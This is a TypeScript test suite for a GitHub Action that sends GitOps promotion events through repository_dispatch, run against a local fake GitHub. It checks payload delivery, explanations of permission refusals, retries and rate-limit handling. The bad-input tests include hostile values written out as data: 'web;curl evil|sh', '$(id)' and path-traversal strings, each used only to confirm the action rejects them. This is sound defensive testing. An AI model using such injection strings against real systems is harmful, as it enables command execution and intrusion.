// The dispatch path (payload -> octokit with retry and throttling -> repository_dispatch) against the
// local GitHub: what arrives, how refusals are explained, and how faults are ridden out or reported.
import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, test } from 'node:test';
import { runDispatch } from '../../src/actions/dispatch/run.js';
import { UserError } from '../../src/core/errors.js';
import { buildDispatchPayload, type DispatchPayload } from '../../src/core/payload/index.js';
import { createGitHubClient, type GitHubClientTiming } from '../../src/github/client.js';
import { sendRepositoryDispatch } from '../../src/github/dispatch.js';
import { classifyToken, type TokenKind } from '../../src/github/token.js';
import { startLocalGitHub, type FaultKind, type LocalGitHub } from '../../tools/local-github/index.js';

const DISPATCH_ROUTE = 'POST /repos/{owner}/{repo}/dispatches';
const WRITER = 'ghp_writer';
const READER = 'github_pat_reader';
const STRANGER = 'ghs_stranger';
// Short waits so retries take milliseconds; `retry-after` seconds last RETRY_AFTER_UNIT_MS each.
const RETRY_AFTER_UNIT_MS = 100;
const FAST: GitHubClientTiming = { retryDelayMs: 5, retryAfterUnitMs: RETRY_AFTER_UNIT_MS, writeIntervalMs: 0 };

let github: LocalGitHub;

before(async () => {
  github = await startLocalGitHub({
    tokens: {
      [WRITER]: { repos: ['acme/env'] },
      [READER]: { repos: ['acme/env'], permission: 'read' },
      [STRANGER]: { repos: ['acme/other'] },
    },
  });
  await github.createRepository('acme', 'env', { 'README.md': '# environments\n' });
  await github.createRepository('acme', 'other', { 'README.md': '# other\n' });
});

after(() => github.stop());

beforeEach(() => {
  github.clearFaults();
  github.resetCalls();
  github.repository('acme', 'env')?.dispatches.splice(0);
});

let dispatchCounter = 0;
function payload(overrides: { tag?: string; extra?: unknown } = {}): DispatchPayload {
  dispatchCounter += 1;
  return buildDispatchPayload({
    app: 'web',
    image: 'ghcr.io/acme/web',
    tag: overrides.tag ?? '0.4.10',
    digest: `sha256:${'ab'.repeat(32)}`,
    environment: 'dev',
    source: {
      repository: 'acme/web',
      sha: 'c0ffee'.padEnd(40, '0'),
      ref: 'refs/tags/v0.4.10',
      runUrl: 'https://github.com/acme/web/actions/runs/7',
    },
    buildTimestamp: 1_700_000_000,
    dispatchId: `00000000-0000-4000-8000-${String(dispatchCounter).padStart(12, '0')}`,
    extra: overrides.extra,
  });
}

async function send(
  token: string,
  sent: DispatchPayload,
  options: { timing?: GitHubClientTiming; tokenKind?: TokenKind; repository?: string; warnings?: string[] } = {},
) {
  const [owner = '', name = ''] = (options.repository ?? 'acme/env').split('/');
  const client = createGitHubClient({
    token,
    baseUrl: github.url,
    log: { warn: (line) => options.warnings?.push(line) },
    ...FAST,
    ...options.timing,
  });
  await sendRepositoryDispatch(client, { owner, name }, 'gitops-promote', sent, {
    tokenKind: options.tokenKind ?? classifyToken(token),
    workflowRepository: 'acme/web',
  });
}

const dispatchCalls = () => github.calls()[DISPATCH_ROUTE] ?? 0;

describe('dispatch against the local GitHub', () => {
  test('the environment repository receives the exact payload and event type', async () => {
    const sent = payload({ extra: { ticket: 'OPS-1', approvers: ['ana', 'bo'] } });
    await send(WRITER, sent);
    const received = github.dispatches('acme', 'env');
    assert.equal(received.length, 1);
    assert.equal(received[0]?.event_type, 'gitops-promote');
    assert.deepEqual(received[0]?.client_payload, JSON.parse(JSON.stringify(sent)));
    assert.equal(dispatchCalls(), 1);
  });

  const refusals: Array<{ name: string; token: string; tokenKind?: TokenKind; status: number; mentions: RegExp[] }> = [
    {
      name: '404 for a repository the token cannot see',
      token: STRANGER,
      status: 404,
      mentions: [
        /cannot see it/,
        /"Contents: Read and write"/,
        /"repo" scope/,
        /GitHub App installation token/,
        /Metadata: Read/,
      ],
    },
    {
      name: '404 with the workflow token names GITHUB_TOKEN as the cause',
      token: STRANGER,
      tokenKind: 'workflow',
      status: 404,
      mentions: [/workflow's GITHUB_TOKEN, which cannot dispatch to acme\/env from acme\/web/],
    },
    {
      name: '403 for a read-only token',
      token: READER,
      status: 403,
      mentions: [
        /can see acme\/env but may not write its contents/,
        /Resource not accessible by integration/,
        /fine-grained personal access token/,
      ],
    },
    {
      name: '401 for an unknown token',
      token: 'ghp_revoked',
      status: 401,
      mentions: [/invalid, expired or revoked/, /Bad credentials/],
    },
  ];
  for (const { name, token, tokenKind, status, mentions } of refusals) {
    test(`${name}: explained, not retried, nothing delivered`, async () => {
      const error = await send(token, payload(), { ...(tokenKind && { tokenKind }) }).then(
        () => assert.fail('the dispatch should have been refused'),
        (caught: unknown) => caught,
      );
      assert.ok(error instanceof UserError, `expected a UserError, got ${String(error)}`);
      assert.match(
        error.message,
        new RegExp(`^dispatch failed sending the repository_dispatch event in acme/env: GitHub answered ${status}`),
      );
      for (const mention of mentions) assert.match(error.message, mention);
      assert.equal(dispatchCalls(), 1);
      assert.equal(github.dispatches('acme', 'env').length, 0);
    });
  }

  const transient: Array<{ kind: FaultKind; times: number }> = [
    { kind: '502', times: 1 },
    { kind: '503', times: 1 },
    { kind: 'drop', times: 1 },
    { kind: '502', times: 3 },
    { kind: 'drop', times: 2 },
  ];
  for (const { kind, times } of transient) {
    test(`retries through ${times} ${kind} answer(s) and delivers once`, async () => {
      github.injectFault({ kind, route: DISPATCH_ROUTE, times });
      await send(WRITER, payload());
      assert.equal(dispatchCalls(), times + 1);
      assert.equal(github.dispatches('acme', 'env').length, 1);
    });
  }

  test('gives up after the configured retries with a message, and nothing is delivered', async () => {
    github.injectFault({ kind: '503', route: DISPATCH_ROUTE, times: 10 });
    await assert.rejects(send(WRITER, payload(), { timing: { retries: 2 } }), (error: unknown) => {
      assert.ok(!(error instanceof UserError), 'a server failure is not the user’s mistake');
      assert.match((error as Error).message, /answered 503 .*after retries.*try again/);
      return true;
    });
    assert.equal(dispatchCalls(), 3);
    assert.equal(github.dispatches('acme', 'env').length, 0);
  });

  test('a connection dropped after GitHub accepted the event is retried; both copies carry one dispatch id', async () => {
    github.injectFault({ kind: 'drop', route: DISPATCH_ROUTE, when: 'after' });
    const sent = payload();
    await send(WRITER, sent);
    const ids = github.dispatches('acme', 'env').map((record) => record.client_payload.dispatchId);
    assert.deepEqual(ids, [sent.dispatchId, sent.dispatchId]);
  });

  const rateLimits: Array<{ kind: FaultKind; retryAfter: number; logged: RegExp }> = [
    {
      kind: 'secondary-rate-limit',
      retryAfter: 2,
      logged: /secondary rate limit .*retrying after 2 s and \d+\.\d s more \(retry 1 of 8\)/,
    },
    { kind: 'rate-limit', retryAfter: 2, logged: /rate limit exhausted .*retrying after \d s \(retry 1 of 3\)/ },
  ];
  for (const { kind, retryAfter, logged } of rateLimits) {
    test(`waits out a ${kind} for its retry-after, logs it, then delivers`, async () => {
      github.injectFault({ kind, route: DISPATCH_ROUTE, retryAfter });
      const warnings: string[] = [];
      const started = Date.now();
      await send(WRITER, payload(), { warnings });
      const waited = Date.now() - started;
      // A primary limit's reset is whole seconds away, so it may land up to one second earlier.
      const minimum = (kind === 'rate-limit' ? retryAfter - 1 : retryAfter) * RETRY_AFTER_UNIT_MS;
      assert.ok(waited >= minimum, `waited ${waited} ms, expected at least ${minimum} ms`);
      assert.equal(warnings.length, 1);
      assert.match(warnings[0] ?? '', logged);
      assert.equal(dispatchCalls(), 2);
      assert.equal(github.dispatches('acme', 'env').length, 1);
    });
  }

  test('a secondary rate limit that outlasts the bounded retries fails as a rate limit, not a permission problem', async () => {
    github.injectFault({ kind: 'secondary-rate-limit', route: DISPATCH_ROUTE, times: 10, retryAfter: 1 });
    const warnings: string[] = [];
    await assert.rejects(
      send(WRITER, payload(), { timing: { secondaryRateLimitRetries: 2 }, warnings }),
      /rate limited, retry after 1 s \(\d\d:\d\d:\d\d UTC\); nothing is lost by stopping here: try again then/,
    );
    assert.equal(dispatchCalls(), 3);
    assert.match(warnings.at(-1) ?? '', /giving up after 2 retries/);
    assert.equal(github.dispatches('acme', 'env').length, 0);
  });
});

describe('the dispatch action sends nothing on a bad input', () => {
  const goodInputs: Record<string, string> = {
    token: WRITER,
    repository: 'acme/env',
    app: 'web',
    image: 'ghcr.io/acme/web',
    tag: '0.4.10',
  };
  const runnerEnv = {
    GITHUB_REPOSITORY: 'acme/web',
    GITHUB_SHA: 'c0ffee'.padEnd(40, '0'),
    GITHUB_REF: 'refs/tags/v0.4.10',
    GITHUB_RUN_ID: '7',
    GITHUB_SERVER_URL: 'https://github.com',
  };
  const badInputs: Array<[string, Record<string, string>, RegExp]> = [
    ['no token', { token: '' }, /^token: got nothing/],
    ['repository without owner', { repository: 'env' }, /^repository: /],
    ['repository with traversal', { repository: 'acme/../../etc' }, /^repository: /],
    ['event type over 100 characters', { 'event-type': 'e'.repeat(101) }, /^event-type: /],
    ['event type with a newline', { 'event-type': 'a\nb' }, /^event-type: /],
    ['app with shell metacharacters', { app: 'web;curl evil|sh' }, /^app: /],
    ['app with path traversal', { app: '../prod' }, /^app: /],
    ['tag with $()', { tag: '$(id)' }, /^tag: /],
    ['tag latest', { tag: 'latest' }, /^tag: .*immutable/],
    ['tag missing', { tag: '' }, /^tag: /],
    ['image with a tag that disagrees', { image: 'ghcr.io/acme/web:1.0' }, /^tag: /],
    ['invalid image', { image: 'ghcr.io/acme/WEB' }, /^image: /],
    ['bad digest', { digest: 'sha256:xyz' }, /^digest: /],
    ['environment with a slash', { environment: 'prod/../dev' }, /^environment: /],
    ['extra-payload not JSON', { 'extra-payload': '{ticket: OPS-1}' }, /^extra-payload: not valid JSON/],
    ['extra-payload an array', { 'extra-payload': '[1]' }, /^extra-payload: /],
    ['extra-payload too large', { 'extra-payload': JSON.stringify({ blob: 'x'.repeat(70_000) }) }, /^client_payload: /],
    ['build-timestamp in milliseconds', { 'build-timestamp': '1700000000000' }, /^build-timestamp: /],
  ];
  for (const [name, overrides, message] of badInputs) {
    test(name, async () => {
      const inputs = { ...goodInputs, ...overrides };
      const env = {
        ...runnerEnv,
        GITHUB_API_URL: github.url,
        ...Object.fromEntries(Object.entries(inputs).map(([key, value]) => [`INPUT_${key.toUpperCase()}`, value])),
      };
      await assert.rejects(runDispatch(env, FAST), (error: unknown) => {
        assert.ok(error instanceof UserError, `expected a UserError, got ${String(error)}`);
        assert.match(error.message, message);
        return true;
      });
      assert.equal(github.totalCalls(), 0);
      assert.equal(github.dispatches('acme', 'env').length, 0);
    });
  }
});
